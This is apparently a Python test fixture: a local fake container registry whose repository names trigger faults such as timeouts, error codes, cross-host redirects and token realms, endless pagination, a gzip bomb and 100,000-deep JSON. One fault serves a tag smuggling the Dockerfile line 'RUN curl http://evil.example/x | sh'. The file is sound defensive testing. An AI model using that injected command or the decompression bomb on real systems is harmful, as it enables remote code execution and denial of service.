"""A registry that misbehaves on demand, run as its own process on 127.0.0.1.

    python -m tests.servers.faulty_registry

Prints its port on the first line of standard output. The repository name says how to
misbehave (each counts its requests, so "fails twice, then answers" can be tested):

- ``slow/<n>``: waits 30 s before answering (past any client timeout).
- ``busy/<n>``: 429 with ``Retry-After: 1`` for the first two requests, then answers.
- ``broken/<n>``: 500 for the first two requests, then answers.
- ``down/<n>``: always 503.
- ``truncated/<n>``: promises more bytes than it sends.
- ``html/<n>``: answers the tag list as text/html.
- ``garbage/<n>``: answers invalid JSON with a JSON content type.
- ``redirect/<n>``: redirects to another host (127.0.0.2).
- ``token/<n>``: demands a bearer token (401 with ``WWW-Authenticate``) and gives one.
- ``refused-token/<n>``: demands a bearer token and refuses to give one (403).
- ``index/<n>``: answers manifests as an OCI image index (``latest`` is ``1.1``).
- ``manifest-list/<n>``: answers manifests as a Docker manifest list (``latest`` is ``1.1``).
- ``paged/<n>``: 250 tags over pages of at most ``n`` (default 100), with ``Link``.
- ``drip/<n>``: the tag list one byte every 0.3 s (each read well within any timeout).
- ``huge/<n>``: a tag list of 20 MB.
- ``gzip-bomb/<n>``: a gzip-encoded tag list that decompresses to 4 GB (4 MB sent).
- ``deep/<n>``: a tag list nested 100,000 arrays deep.
- ``bad-tag/<n>``: one of the tags holds a newline and a Dockerfile instruction.
- ``bad-digest/<n>``: manifests answer a digest that is not sha256 and 64 hex digits.
- ``cross-link/<n>``: the first page's ``Link`` leads to another host (127.0.0.2), which serves tags.
- ``cross-realm/<n>``: demands a token from a realm on another host (127.0.0.2).
- ``link-loop/<n>``: every page links to itself.
- ``endless/<n>``: every page links to a new page of 1,000 new tags.
- anything else: tags ``1.0``, ``1.1``, ``latest``; ``latest`` has ``1.1``'s digest.

``GET /requests`` answers what was asked so far: each request's host, path and whether it
carried an ``Authorization`` header (to show a token never went elsewhere).
"""

from __future__ import annotations

import hashlib
import json
import re
import threading
import time
import urllib.parse
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.servers.faults import drip, gzip_bomb

TOKEN = "test-token-123"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
_COUNTS: Counter = Counter()
_LOCK = threading.Lock()
_SEEN: list[dict] = []


def digest_of(tag: str) -> str:
    return "sha256:" + hashlib.sha256(("latest" if tag == "1.1" else tag).encode()).hexdigest()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:
        pass

    def do_HEAD(self) -> None:
        self._answer(head=True)

    def do_GET(self) -> None:
        self._answer(head=False)

    def _answer(self, head: bool) -> None:
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query)
        if url.path == "/requests":
            with _LOCK:
                self._send(200, "application/json", json.dumps(_SEEN).encode())
            return
        with _LOCK:
            _SEEN.append({"host": self.headers.get("Host", ""), "path": self.path,
                          "authorization": "Authorization" in self.headers})
        if url.path == "/token":
            scope = query.get("scope", [""])[0]
            if "refused-token" in scope:
                self._send(403, "application/json", b'{"errors": [{"code": "DENIED"}]}')
            else:
                self._send(200, "application/json", json.dumps({"token": TOKEN}).encode())
            return
        match = re.fullmatch(r"/v2/(?P<repo>.+)/(?P<kind>tags/list|manifests/(?P<ref>[^/]+))", url.path)
        if match is None:
            self._send(404, "application/json", b'{"errors": []}')
            return
        repository = match.group("repo")
        fault = repository.split("/", 1)[0]
        with _LOCK:
            _COUNTS[(repository, match.group("kind"))] += 1
            count = _COUNTS[(repository, match.group("kind"))]
        if fault == "slow":
            time.sleep(30)
        if fault == "busy" and count <= 2:
            self._send(429, "application/json", b"{}", {"Retry-After": "1"})
            return
        if fault == "broken" and count <= 2:
            self._send(500, "text/plain", b"oops")
            return
        if fault == "down":
            self._send(503, "text/plain", b"down")
            return
        if fault == "redirect":
            self._send(302, "text/plain", b"", {"Location": f"http://127.0.0.2:{self.server.server_address[1]}{self.path}"})
            return
        port = self.server.server_address[1]
        if fault == "cross-realm" and self.headers.get("Authorization") != f"Bearer {TOKEN}":
            challenge = f'Bearer realm="http://127.0.0.2:{port}/token",service="elsewhere"'
            self._send(401, "application/json", b'{"errors": []}', {"WWW-Authenticate": challenge})
            return
        if fault in ("token", "refused-token") and self.headers.get("Authorization") != f"Bearer {TOKEN}":
            host = f"127.0.0.1:{self.server.server_address[1]}"
            challenge = f'Bearer realm="http://{host}/token",service="{host}",scope="repository:{repository}:pull"'
            self._send(401, "application/json", b'{"errors": [{"code": "UNAUTHORIZED"}]}',
                       {"WWW-Authenticate": challenge})
            return
        if match.group("kind") == "tags/list":
            self._tags(repository, fault, query, head)
            return
        reference = match.group("ref")
        tags = {"1.0", "1.1", "latest"}
        if reference not in tags and not reference.startswith("sha256:"):
            self._send(404, "application/json", b'{"errors": [{"code": "MANIFEST_UNKNOWN"}]}')
            return
        content_type = {"index": OCI_INDEX, "manifest-list": DOCKER_LIST}.get(fault, OCI_MANIFEST)
        body = json.dumps({"schemaVersion": 2, "mediaType": content_type, "tag": reference}).encode()
        digest = "sha256:" + "g" * 64 if fault == "bad-digest" else digest_of(reference)
        self._send(200, content_type, b"" if head else body, {"Docker-Content-Digest": digest}, length=len(body))

    def _tags(self, repository: str, fault: str, query: dict, head: bool) -> None:
        if fault == "paged":
            tags = [f"1.{i}" for i in range(250)]
            size = int(query.get("n", ["100"])[0])
            last = query.get("last", [None])[0]
            start = tags.index(last) + 1 if last in tags else 0
            page = tags[start:start + min(size, 100)]
            extra = {}
            if start + len(page) < len(tags):
                extra["Link"] = f'</v2/{repository}/tags/list?n={size}&last={page[-1]}>; rel="next"'
            self._send(200, "application/json", json.dumps({"name": repository, "tags": page}).encode(), extra)
            return
        port = self.server.server_address[1]
        if fault == "cross-link" and self.headers.get("Host", "").startswith("127.0.0.1"):
            link = f'<http://127.0.0.2:{port}/v2/{repository}/tags/list?n=1000&last=1.1>; rel="next"'
            self._send(
                200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link}
            )
            return
        if fault == "cross-link":
            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["9.9-elsewhere"]}).encode())
            return
        if fault == "link-loop":
            link = f'</v2/{repository}/tags/list?n=1000>; rel="next"'
            self._send(
                200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link}
            )
            return
        if fault == "endless":
            page = int(query.get("page", ["0"])[0])
            link = f'</v2/{repository}/tags/list?n=1000&page={page + 1}>; rel="next"'
            tags = [f"{page}.{i}" for i in range(1000)]
            self._send(200, "application/json", json.dumps({"name": repository, "tags": tags}).encode(), {"Link": link})
            return
        if fault == "drip":
            drip(self, "application/json", json.dumps({"name": repository, "tags": ["1.0", "1.1", "latest"]}).encode())
            return
        if fault == "huge":
            tags = [f"1.{i}-{'x' * 100}" for i in range(200_000)]
            self._send(200, "application/json", json.dumps({"name": repository, "tags": tags}).encode())
            return
        if fault == "gzip-bomb":
            self._send(200, "application/json", gzip_bomb(), {"Content-Encoding": "gzip"})
            return
        if fault == "deep":
            self._send(200, "application/json", b'{"tags": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
            return
        tags = (
            ["1.0", "1.1\nRUN curl http://evil.example/x | sh", "latest"]
            if fault == "bad-tag"
            else ["1.0", "1.1", "latest"]
        )
        body = json.dumps({"name": repository, "tags": tags}).encode()
        if fault == "truncated":
            self._send(200, "application/json", body[:10], length=len(body))
            return
        if fault == "html":
            self._send(200, "text/html", b"<html>tags</html>")
            return
        if fault == "garbage":
            self._send(200, "application/json", b'{"tags": [1.0,')
            return
        self._send(200, "application/json", body)

    def _send(self, status: int, content_type: str, body: bytes, headers: dict | None = None,
              length: int | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body) if length is None else length))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)
        if length is not None and length != len(body):
            self.close_connection = True


def main() -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    port = server.server_address[1]
    # the same handler on 127.0.0.2, the same port: "another host" for redirects, links and realms
    other = ThreadingHTTPServer(("127.0.0.2", port), Handler)
    other.daemon_threads = True
    threading.Thread(target=other.serve_forever, daemon=True).start()
    print(port, flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
